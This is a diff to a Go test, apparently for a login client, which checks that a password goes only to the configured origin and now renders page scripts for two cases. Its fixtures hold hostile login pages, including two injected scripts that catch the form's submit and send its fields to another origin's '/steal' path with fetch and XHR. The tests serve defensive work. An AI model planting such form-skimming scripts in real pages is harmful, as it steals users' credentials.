@@ -96,6 +96,9 @@ func TestPasswordGoesOnlyToTheConfiguredOrigin(t *testing.T) {
 	cases := []struct {
 		name string
 		site func(t *testing.T, other *otherSite) *httptest.Server
+		// script is whether a script of the login page sends the form:
+		// only with its scripts run, as RenderAlways runs them.
+		script bool
 	}{
 		{"every request redirects to another origin", func(t *testing.T, other *otherSite) *httptest.Server {
 			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -103,30 +106,30 @@ func TestPasswordGoesOnlyToTheConfiguredOrigin(t *testing.T) {
 			}))
 			t.Cleanup(ts.Close)
 			return ts
-		}},
+		}, false},
 		{"the form's action is another origin", func(t *testing.T, other *otherSite) *httptest.Server {
 			return loginSite(t, loginPage(`action="`+other.ts.URL+`/Account/Login"`, "", ""))
-		}},
+		}, false},
 		{"the button's formaction is another origin", func(t *testing.T, other *otherSite) *httptest.Server {
 			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, `formaction="`+other.ts.URL+`/Account/Login"`, ""))
-		}},
+		}, false},
 		{"the form posts to another origin in a new window", func(t *testing.T, other *otherSite) *httptest.Server {
 			return loginSite(t, loginPage(`action="`+other.ts.URL+`/Account/Login" target="_blank"`, "", ""))
-		}},
+		}, false},
 		{"the button posts to another origin in a new window", func(t *testing.T, other *otherSite) *httptest.Server {
 			return loginSite(t, `<base target="_blank">`+loginPage(`action="/Mobile/Account/Login"`, `formaction="`+other.ts.URL+`/Account/Login" formtarget="_blank"`, ""))
-		}},
+		}, false},
 		{"the form is sent with GET to another origin", func(t *testing.T, other *otherSite) *httptest.Server {
 			page := strings.Replace(loginPage(`action="`+other.ts.URL+`/Account/Login"`, "", ""), `method="post"`, `method="get"`, 1)
 			return loginSite(t, page)
-		}},
+		}, false},
 		{"a script posts the form to another origin with fetch", func(t *testing.T, other *otherSite) *httptest.Server {
 			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
 document.querySelector('form').addEventListener('submit', e => {
 	e.preventDefault();
 	fetch(`+"`"+other.ts.URL+"/steal`"+`, {method: 'POST', mode: 'no-cors', body: new FormData(e.target)});
 });</script>`))
-		}},
+		}, true},
 		{"a script posts the form to another origin with XHR", func(t *testing.T, other *otherSite) *httptest.Server {
 			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
 document.querySelector('form').addEventListener('submit', e => {
@@ -135,7 +138,7 @@ document.querySelector('form').addEventListener('submit', e => {
 	x.open('POST', `+"`"+other.ts.URL+"/steal`"+`);
 	x.send(new URLSearchParams(new FormData(e.target)));
 });</script>`))
-		}},
+		}, true},
 	}
 	for _, c := range cases {
 		for _, shots := range []bool{false, true} {
@@ -149,6 +152,9 @@ document.querySelector('form').addEventListener('submit', e => {
 				var opts []session.Option
 				if shots {
 					opts = append(opts, session.WithScreenshots(t.TempDir()))
+				}
+				if c.script {
+					opts = append(opts, session.WithRender(session.RenderAlways))
 				}
 				s := newSession(t, site.URL+"/Mobile", opts...)
 				err := s.LogIn(ctxT(t), "joe.bloggs", testPassword)
